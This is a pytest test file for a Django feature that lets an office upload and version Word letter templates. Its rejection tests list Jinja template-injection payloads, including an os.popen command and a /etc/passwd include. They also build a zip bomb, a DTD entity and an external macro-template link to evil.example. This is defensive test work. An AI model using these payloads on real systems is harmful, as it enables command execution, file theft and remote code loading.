"""The office edits a template in Word and puts it in force; whatever else is uploaded is refused with a sentence."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document

from tests.cast import Cast, make_cast
from tests.documents.words import part, repacked, saved, text_of, word
from tests.house.test_two_at_once import together
from zhibu.audit.models import Entry
from zhibu.documents.checking import LARGEST, check
from zhibu.documents.filling import Sandbox, fill
from zhibu.documents.models import Template
from zhibu.documents.registry import KINDS
from zhibu.documents.store import shipped
from zhibu.regulations.refusal import Refusal

pytestmark = pytest.mark.django_db
NOTICE = KINDS["talk_notice"]
PAGE = "/documents/talk_notice/"


@pytest.fixture
def office(cast: Cast, sign_in: Callable[[Any], Client]) -> Client:
    return sign_in(cast.office)


def upload(client: Client, content: bytes, *, note: str = "改了抬头", based_on: int = 0) -> Any:
    file = SimpleUploadedFile("改好的.docx", content)
    return client.post(PAGE, {"file": file, "note": note, "based_on": based_on})


def edited(text: str) -> bytes:
    """The shipped notice with one more paragraph, as Word would save it."""
    document = Document(io.BytesIO(shipped("talk_notice")))
    document.add_paragraph(text)
    return saved(document)


def test_the_office_downloads_edits_and_uploads_and_from_then_on_that_is_used(office: Client) -> None:
    listed = office.get("/documents/").content.decode()
    assert all(kind.label in listed for kind in KINDS.values())
    assert "孟员" in office.get(PAGE).content.decode()  # the preview, with invented people
    got = office.get(reverse("documents:version", args=["talk_notice", 0]))
    assert got.content == shipped("talk_notice")

    answer = upload(office, edited("请着正装，{{ name }}。"))

    assert answer.status_code == 302
    assert "请着正装，孟员。" in text_of(fill("talk_notice", NOTICE.sample))
    assert "请着正装，孟员。" in office.get(PAGE).content.decode()
    kept = Template.objects.get()
    assert (kept.version, kept.note, kept.uploaded_by.username) == (1, "改了抬头", "office")  # type: ignore[union-attr]
    assert Entry.objects.get(verb="documents.upload").changes["sha256"] == kept.sha256


def test_an_older_version_and_the_shipped_one_can_be_had_again_and_nothing_is_lost(office: Client) -> None:
    upload(office, edited("第一稿"))
    upload(office, edited("第二稿"), based_on=1)
    restore = reverse("documents:restore", args=["talk_notice"])

    office.post(restore, {"version": 1, "based_on": 2})
    assert "第一稿" in text_of(fill("talk_notice", NOTICE.sample))
    office.post(restore, {"version": 0, "based_on": 3})
    assert "稿" not in text_of(fill("talk_notice", NOTICE.sample))

    assert list(Template.objects.values_list("version", "note")) == [
        (4, "恢复系统自带的模板"), (3, "恢复第 1 版"), (2, "改了抬头"), (1, "改了抬头"),
    ]  # fmt: skip
    again = office.post(restore, {"version": 0, "based_on": 4})
    assert again.status_code == 422
    assert "与当前模板完全相同" in again.content.decode()
    assert office.get(reverse("documents:version", args=["talk_notice", 9])).status_code == 404
    assert office.get("/documents/poem/").status_code == 404


def test_who_edited_an_outdated_version_is_told_and_the_newer_one_stays(office: Client) -> None:
    upload(office, edited("同事的改动"))

    answer = upload(office, edited("我的改动"), based_on=0)

    assert answer.status_code == 422
    assert "已有人启用了第 1 版" in answer.content.decode()
    assert "请下载第 1 版" in answer.content.decode()
    assert Template.objects.count() == 1


def test_nobody_but_the_office_changes_letters(cast: Cast, sign_in: Callable[[Any], Client]) -> None:
    for who in (cast.organizer, cast.secretary, cast.member, cast.administrator):
        client = sign_in(who)
        assert upload(client, edited("改")).status_code == 403
        assert client.get(PAGE).status_code == 403
    assert not Template.objects.exists()


REFUSED = {
    "{{ nmae }}": "没有变量“nmae”",
    "{{ row.name }}": "不是可用的列",
    "{% for row in name %}{% endfor %}": "不是“谈话通知”的列表变量",
    "{{ name": "写得不完整",
    "{% if name %}": "写得不完整",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": "不能使用函数",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}": "不能使用函数",
    "{{ name.__class__ }}": "不是可用的列",
    "{{ name|upper }}": "不能使用函数",
    "{{ range(999999999) }}": "不能使用函数",
    "{{ 'a' * 9999999999 }}": "不能使用函数",
    "{% set a = 1 %}": "不能使用函数",
    "{% include '/etc/passwd' %}": "不能使用函数",
    "{% macro a() %}{% endmacro %}": "不能使用函数",
    "{{ loop.index }}": "不是可用的列",
    "{{ self }}": "没有变量“self”",
}


@pytest.mark.parametrize("text", REFUSED)
def test_a_template_may_name_repeat_and_leave_out_and_nothing_else(text: str) -> None:
    with pytest.raises(Refusal, match=REFUSED[text]) as refused:
        check(NOTICE, edited(text))

    assert (refused.value.field, bool(refused.value.remedy)) == ("file", True)


def test_a_refused_upload_says_why_and_keeps_the_note_and_the_template(office: Client) -> None:
    answer = upload(office, edited("{{ nmae }}"))

    assert answer.status_code == 422
    assert "没有变量“nmae”" in answer.content.decode()
    assert "改了抬头" in answer.content.decode()
    assert not Template.objects.exists()


@pytest.mark.parametrize(
    "text", ["{{ ''.__class__ }}", "{{ cycler }}", "{{ name.format }}", "{{ range(3) }}", "{{ name.upper() }}"]
)
def test_even_unchecked_the_sandbox_lets_nothing_out(text: str) -> None:
    from jinja2 import TemplateError

    with pytest.raises(TemplateError):
        Sandbox().from_string(text).render(name="孟员")


def bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", part(word("x"), "[Content_Types].xml"))
        package.writestr("word/document.xml", b" " * (40 * 1024 * 1024))
    return stream.getvalue()


DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
OUTSIDE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "text": (lambda: "不是 Word".encode(), "这不是 Word 文档"),
    "old doc": (lambda: b"\xd0\xcf\x11\xe0" + b"0" * 100, "旧版 Word"),
    "workbook": (lambda: repacked(word("x"), {"[Content_Types].xml": b"<Types/>"}), "这不是 Word 文档"),
    "macros": (lambda: repacked(word("x"), {"word/vbaProject.bin": b"x"}), "宏、控件"),
    "object": (lambda: repacked(word("x"), {"word/embeddings/a.bin": b"x"}), "嵌入的对象"),
    "entity": (lambda: repacked(word("x"), {"word/styles.xml": DTD}), "DTD"),
    "broken": (lambda: repacked(word("x"), {"word/document.xml": b"<w:document"}), "损坏"),
    "outside": (lambda: repacked(word("x"), {"word/_rels/settings.xml.rels": OUTSIDE}), "文件以外"),
    "cut off": (lambda: word("x")[:-200], "这不是 Word 文档"),
    "large": (lambda: b"PK" + b"0" * LARGEST, "不能超过 2 MB"),
    "bomb": (bomb, "展开后过大"),
}


@pytest.mark.parametrize("name", FILES)
def test_a_file_that_is_no_plain_word_document_is_refused_with_a_sentence(name: str) -> None:
    make, sentence = FILES[name]

    with pytest.raises(Refusal, match=sentence):
        check(NOTICE, make())


def test_variables_in_headers_are_refused_since_a_batch_has_one_header() -> None:
    document = Document(io.BytesIO(shipped("talk_notice")))
    document.sections[0].header.paragraphs[0].text = "{{ name }}"

    with pytest.raises(Refusal, match="不能写在页眉、页脚"):
        check(NOTICE, saved(document))


def test_the_sample_comes_as_word_and_as_pdf(office: Client) -> None:
    docx = office.get(reverse("documents:sample", args=["talk_notice"]))
    pdf = office.get(reverse("documents:sample-pdf", args=["talk_notice"]))

    assert "孟员同志" in text_of(docx.content)
    assert pdf.content.startswith(b"%PDF-")
    assert "attachment" in docx["Content-Disposition"]
    assert "attachment" in pdf["Content-Disposition"]


@pytest.mark.django_db(transaction=True)
def test_of_two_uploads_at_once_one_counts_and_the_other_is_told() -> None:
    people = make_cast()
    given = [edited("甲的改动"), edited("乙的改动")]

    def put(content: bytes) -> Callable[[], int]:
        client = Client()
        client.force_login(people.office.user, backend="django.contrib.auth.backends.ModelBackend")  # type: ignore[arg-type]
        return lambda: upload(client, content).status_code

    answers = together(*(put(content) for content in given))

    assert sorted(answers) == [302, 422]
    assert Template.objects.get().version == 1
    assert Entry.objects.filter(verb="documents.upload").count() == 1
